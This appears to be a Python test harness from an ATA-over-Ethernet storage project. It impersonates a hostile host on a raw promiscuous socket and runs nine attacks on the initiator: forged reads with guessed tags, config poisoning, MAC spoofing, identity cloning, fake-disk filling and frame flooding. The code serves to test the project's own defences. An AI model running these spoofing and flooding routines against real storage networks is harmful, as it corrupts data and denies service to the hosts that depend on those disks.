"""A hostile host, as a process: it carries out one attack of :data:`ATTACKS` until it gets SIGTERM.

    python -m tests.hostile.attacker ATTACK INTERFACE INITIATOR_MAC TARGET_MAC SHELF.SLOT [NAME=NUMBER ...]

It knows the addresses of the initiator and of the target, which every host on a segment sees in their broadcasts.  It
receives what the switch sends to its port, and no more: broadcasts, and what is sent to an address that is its own or
that it has stolen.  Every quarter of a second it prints a line of JSON: how often it did what.

A *lie* is a frame that says something untrue; a *tag* is counted when the initiator gives one away.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import random
import signal
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import partial

from aoefs.protocol.ata import (
    IDENTIFY_REGISTERS,
    Identity,
    Opcode,
    Status,
    decode_identify_untrusted,
    encode_identify,
)
from aoefs.protocol.wire import (
    ATA_BYTES,
    BROADCAST_ADDRESS,
    BROADCAST_MAC,
    CLIENT_TAG_BIT,
    ETHERTYPE,
    SECTOR_BYTES,
    Address,
    AoeCommand,
    AtaArgument,
    ConfigArgument,
    Flag,
    Header,
    decode_ata_untrusted,
    decode_header_untrusted,
    encode,
    parse_mac,
)
from tests.hostile.sending import Volley

FORGED = b"FORGED! "  # what its data consist of
POISON = b"poisoned"  # its config string
READ_BYTES = 4096  # of each read and write that it answers blindly
SERIAL = "hostile"
GUESSES = 32  # tags that it tries at once
TAG = slice(20, 24)
REPORT_PERIOD = 0.25  # seconds
_SOL_PACKET, _PACKET_ADD_MEMBERSHIP, _PACKET_MR_PROMISC, _PACKET_IGNORE_OUTGOING = 263, 1, 1, 23
_SO_RCVBUFFORCE = 33
_GOOD = AtaArgument(0, 0, 0, Status.DRDY, 0)


class Host:
    """The host: its socket, what it knows, and ``done``, which counts."""

    def __init__(self, interface: str, initiator: bytes, target: bytes, address: Address) -> None:
        self.initiator = initiator
        self.target = target
        self.address = address
        self.done: Counter[str] = Counter()
        self.dice = random.Random(11)
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.wire.setsockopt(_SOL_PACKET, _PACKET_IGNORE_OUTGOING, 1)
        self.wire.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, 32 << 20)
        membership = struct.pack("iHH8s", socket.if_nametoindex(interface), _PACKET_MR_PROMISC, 0, b"")
        self.wire.setsockopt(_SOL_PACKET, _PACKET_ADD_MEMBERSHIP, membership)
        self.wire.bind((interface, ETHERTYPE))
        self.mac: bytes = self.wire.getsockname()[4]
        self._report_at = 0.0

    def report(self) -> None:
        """Print the counters if it is time."""
        now = time.monotonic()
        if now >= self._report_at:
            self._report_at = now + REPORT_PERIOD
            print(json.dumps(self.done), flush=True)

    def send(self, frame: bytes, what: str = "lies") -> None:
        with contextlib.suppress(BlockingIOError):
            self.wire.send(frame)
            self.done[what] += 1

    def heard(self, seconds: float = 0.0) -> Iterator[tuple[Header, bytes]]:
        """The AoE frames that came, and those of the next ``seconds``."""
        until = time.monotonic() + seconds
        while True:
            left = until - time.monotonic()
            self.wire.settimeout(max(0.0, left))
            try:
                frame = self.wire.recv(1 << 16)
            except (BlockingIOError, TimeoutError):
                if left <= 0:
                    self.report()
                    return
                continue
            header = decode_header_untrusted(frame)
            if not header.is_response and header.source == self.initiator and header.command == AoeCommand.CONFIG:
                self.done["tags"] += 1
            yield header, frame

    # ── what it says ──────────────────────────────────────────────────────────────────────────────────────────────

    def announce(self, source: bytes | None = None, address: Address | None = None) -> None:
        """Make the initiator ask ``source`` who it is."""
        self.tell_config(0, source or self.mac, address or self.address)

    def tell_config(
        self, tag: int, source: bytes, address: Address, config: ConfigArgument | None = None, what: str = "lies"
    ) -> None:
        header = Header(self.initiator, source, address, AoeCommand.CONFIG, tag, Flag.RESPONSE)
        self.send(encode(header, config or ConfigArgument(0, b"", 16, 1, 2, 1)), what)

    def answer(self, header: Header, frame: bytes, address: Address, identity: Identity) -> None:
        """As the disk ``identity`` at ``address`` would answer, from where it was asked, but with forged data."""
        source = self.mac if header.destination == BROADCAST_MAC else header.destination
        if header.command == AoeCommand.CONFIG:
            self.tell_config(header.tag, source, address)
        elif header.command == AoeCommand.ATA and len(frame) >= ATA_BYTES:
            ata, data = decode_ata_untrusted(frame), b""
            if ata.command == Opcode.IDENTIFY:
                data = encode_identify(identity)
                self.done["identified"] += 1
            elif ata.command in (Opcode.READ, Opcode.READ_EXT):
                data = FORGED * (ata.count * SECTOR_BYTES // len(FORGED))
                self.done["reads"] += 1
            reply = Header(self.initiator, source, address, AoeCommand.ATA, header.tag, Flag.RESPONSE)
            self.send(encode(reply, _GOOD, data))

    def address_of_question(self, header: Header) -> Address:
        return self.address if header.address == BROADCAST_ADDRESS else header.address

    def ask_identity(self) -> Identity:
        """Of the target: it tells every host."""
        header = Header(self.target, self.mac, self.address, AoeCommand.ATA, 7)
        while True:
            self.send(encode(header, IDENTIFY_REGISTERS), "questions")
            for answer, frame in self.heard(0.2):
                if answer.is_response and answer.tag == header.tag:
                    return decode_identify_untrusted(frame[ATA_BYTES:])


# ── the attacks ───────────────────────────────────────────────────────────────────────────────────────────────────


def forge(host: Host, *, write: float = 0) -> None:
    """Answer reads (or writes) in the target's name, with guessed tags: those that follow one that was given away."""
    data = b"" if write else FORGED * (READ_BYTES // len(FORGED))
    answer = Header(host.initiator, host.target, host.address, AoeCommand.ATA, 0, Flag.RESPONSE)
    volley = Volley([encode(answer, _GOOD, data)] * GUESSES)
    places = itertools.cycle(Address(7, slot) for slot in range(250))
    announce_at = 0.0
    last = host.dice.getrandbits(31) | CLIENT_TAG_BIT
    while True:
        if announce_at <= time.monotonic():
            announce_at = time.monotonic() + 0.02
            host.announce(address=next(places))
        for header, _ in host.heard():
            if not header.is_response:
                last = header.tag
        for index, frame in enumerate(volley.frames):
            guess = last + (index + 1 << 6) & 0xFFFF_FFFF | CLIENT_TAG_BIT
            frame[TAG] = (guess & ~63).to_bytes(4, "big")
        host.done["answers"] += volley.fire(host.wire)
        time.sleep(0.0003)  # what waits at the initiator makes it slow


def poison(host: Host, *, broadcast: float = 0) -> None:
    """Answer config queries in the target's name: those that it causes itself, or those that are broadcast."""
    while True:
        if not broadcast:
            host.announce()
        for header, _ in host.heard(0.2):
            own = header.destination == (BROADCAST_MAC if broadcast else host.mac)
            if not header.is_response and header.command == AoeCommand.CONFIG and own:
                # Again later: the tag may be good for seconds, and a true answer may come first.
                for _ in range(3):
                    lie = ConfigArgument(0, POISON, 1, 1, 1, 1)
                    host.tell_config(header.tag, host.target, host.address, lie, "poison")
                    time.sleep(0.05)


def starve(host: Host, *, first: float = 4500, rate: float = 100) -> None:
    """Config answers of random MACs to the last query that it heard: ``first`` of them, then ``rate`` a second."""
    tag, began, sent, announce_at = 0, 0.0, 0, 0.0
    while True:
        if announce_at <= time.monotonic():
            announce_at = time.monotonic() + 0.5
            host.announce(address=Address(8, sent % 250))
        for header, _ in host.heard(0.01):
            if not header.is_response and header.command == AoeCommand.CONFIG:
                tag = header.tag
                began = began or time.monotonic()
        due = first + (time.monotonic() - began) * rate if began else 0
        while sent < due:
            mac = b"\x02\x66" + host.dice.randbytes(4)
            host.tell_config(tag, mac, Address(0x1000 + sent // 250 % 1000, sent % 250), what="strangers")
            sent += 1


def fill(host: Host, *, count: float = 1024) -> None:
    """That many disks behind one MAC, which answer whatever they are asked."""
    disks = {
        Address(100 + number // 250, number % 250): Identity(sectors=8, serial=f"fake{number}", model="m", firmware="1")
        for number in range(int(count))
    }
    to_announce = itertools.cycle(disks)
    while True:
        for _ in range(4):
            host.announce(address=next(to_announce))
        for header, frame in host.heard(0.02):
            if header.is_response:
                continue
            if header.address == BROADCAST_ADDRESS:
                for address, identity in disks.items():
                    host.answer(header, frame, address, identity)
            elif header.address in disks:
                host.answer(header, frame, header.address, disks[header.address])


def clone(host: Host, *, sectors: float = 0, period: float = 0) -> None:
    """The target's identity at another MAC, with another size if ``sectors`` are given.

    With a ``period`` the size is the true one for so many seconds, then the other one, and so on.
    """
    true = host.ask_identity()
    false = replace(true, sectors=int(sectors) or true.sectors)
    began = time.monotonic()
    while True:
        host.announce()
        for header, frame in host.heard(0.3):
            if not header.is_response and header.address in (host.address, BROADCAST_ADDRESS):
                lies = not period or int((time.monotonic() - began) / period) % 2
                host.answer(header, frame, host.address, false if lies else true)
                host.done["false"] += bool(lies) and is_identify(frame)


def is_identify(frame: bytes) -> bool:
    header = decode_header_untrusted(frame)
    return header.command == AoeCommand.ATA and decode_ata_untrusted(frame).command == Opcode.IDENTIFY


def pose(host: Host, *, seconds: float = 0.8) -> None:
    """Take the target's MAC for some time, and answer as another disk; then be silent."""
    other = replace(host.ask_identity(), serial=SERIAL)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        host.announce(host.target)
        for header, frame in host.heard(0.005):
            if not header.is_response and header.destination == host.target:
                host.answer(header, frame, host.address, other)
    host.done["over"] = 1
    while True:
        for _ in host.heard(0.5):
            pass


def flood(host: Host) -> None:
    """Announcements, as fast as possible."""
    volley = Volley([])
    for number in itertools.count():
        if number % 1000 == 0:
            header = Header(BROADCAST_MAC, b"", Address(0, 0), AoeCommand.CONFIG, 0, Flag.RESPONSE)
            volley = Volley(
                [
                    encode(
                        replace(header, source=b"\x02\x77" + host.dice.randbytes(4), address=Address(9, index)),
                        ConfigArgument(0, b"", 16, 1, 2, 1),
                    )
                    for index in range(64)
                ]
            )
        host.done["announcements"] += volley.fire(host.wire)
        if number % 50 == 0:
            host.report()


def babble(host: Host, *, count: float = 1200) -> None:
    """As many other disks at the target's address, each behind a MAC of its own: each is worth a line of the log."""
    macs = [b"\x02\x88" + number.to_bytes(4, "big") for number in range(int(count))]
    known, turn = set(macs), itertools.cycle(macs)
    seen: set[bytes] = set()
    other = Identity(sectors=8, serial=SERIAL, model="m", firmware="1")
    while True:
        for _ in range(2):
            host.announce(next(turn))
        for header, frame in host.heard(0.02):
            if header.is_response:
                continue
            if header.destination == BROADCAST_MAC:
                for mac in macs:
                    host.tell_config(header.tag, mac, host.address)
            elif header.destination in known:
                host.answer(header, frame, host.address, other)
                seen.add(header.destination)
                host.done["asked"] = len(seen)


ATTACKS: dict[str, Callable[..., None]] = {
    "forge": forge,
    "poison": poison,
    "starve": starve,
    "fill": fill,
    "clone": clone,
    "flip": partial(clone, sectors=1, period=1.5),
    "pose": pose,
    "flood": flood,
    "babble": babble,
}


@dataclass
class _End(Exception):
    """SIGTERM came."""


def main(arguments: list[str]) -> int:
    attack, interface, initiator, target, address, *options = arguments
    host = Host(interface, parse_mac(initiator), parse_mac(target), Address.parse(address))
    numbers = {name: float(value) for name, _, value in (option.partition("=") for option in options)}

    def end(*_: object) -> None:
        raise _End

    signal.signal(signal.SIGTERM, end)
    with contextlib.suppress(_End):
        host.report()
        ATTACKS[attack](host, **numbers)
    print(json.dumps(host.done), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
